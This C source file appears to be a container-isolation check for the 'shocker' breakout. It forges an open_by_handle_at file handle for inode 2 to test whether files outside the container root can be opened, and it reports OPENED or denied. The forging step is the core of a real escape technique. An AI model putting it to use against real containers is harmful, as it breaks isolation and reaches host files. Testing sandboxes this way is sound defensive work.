/* handle: open_by_handle_at, the "shocker" breakout: a file handle names an
 * inode by number, so whoever may open handles reaches any file of the
 * filesystem, outside its root too. Tries the handle of its own /etc, and
 * a forged one for inode 2 (the root directory of most filesystems) with
 * the same handle type.
 *   "handle: unsupported|errno E" when no handle can be made at all
 *   "own: OPENED|denied E", "forged: OPENED|denied E" */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void try(const char *what, int mnt, struct file_handle *h) {
    int fd = open_by_handle_at(mnt, h, O_RDONLY);
    if (fd >= 0) {
        printf("%s: OPENED\n", what);
        close(fd);
    } else {
        printf("%s: denied %d\n", what, errno);
    }
}

int main(void) {
    struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
    int mount_id;
    h->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, "/etc", h, &mount_id, 0)) {
        printf("handle: errno %d\n", errno);
        return 0;
    }
    int mnt = open("/", O_RDONLY | O_DIRECTORY);
    try("own", mnt, h);
    /* FILEID_INO32_GEN and friends start with the inode number. */
    if (h->handle_bytes >= 8) {
        unsigned int ino = 2, gen = 0;
        memcpy(h->f_handle, &ino, 4);
        memcpy(h->f_handle + 4, &gen, 4);
    }
    try("forged", mnt, h);
    return 0;
}
